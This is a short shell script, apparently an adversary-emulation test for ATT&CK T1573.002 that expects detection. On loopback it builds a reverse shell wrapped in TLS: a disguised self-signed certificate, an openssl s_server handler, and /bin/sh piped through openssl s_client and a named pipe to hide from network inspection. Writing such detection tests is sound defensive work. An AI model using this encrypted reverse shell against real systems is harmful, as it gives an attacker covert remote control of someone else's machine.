# technique: T1573.002
# tactic: command-and-control
# name: Reverse shell wrapped in TLS with openssl s_client to an openssl s_server handler
# expect: detected
. "$EMULATION_LIB"
need openssl mkfifo timeout ss
loopback_up
# Network inspection sees only a TLS session: the operator's handler is `openssl s_server` with a
# throw-away certificate, the implant pipes a shell through `openssl s_client` and a named pipe.
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=cdn-edge" -keyout k.pem -out c.pem 2>/dev/null
(sleep 1.5; printf 'id\nexit\n'; sleep 1) |
	timeout 8 openssl s_server -quiet -key k.pem -cert c.pem -port 8443 -naccept 1 >session.log 2>/dev/null &
handler=$!
i=0; until ss -ltn | grep -q ':8443 '; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
mkfifo .p
timeout 7 sh -c '/bin/sh -i <.p 2>&1 | openssl s_client -quiet -connect 127.0.0.1:8443 >.p 2>/dev/null' || true
wait "$handler" || true
rm -f .p
grep -q 'uid=' session.log
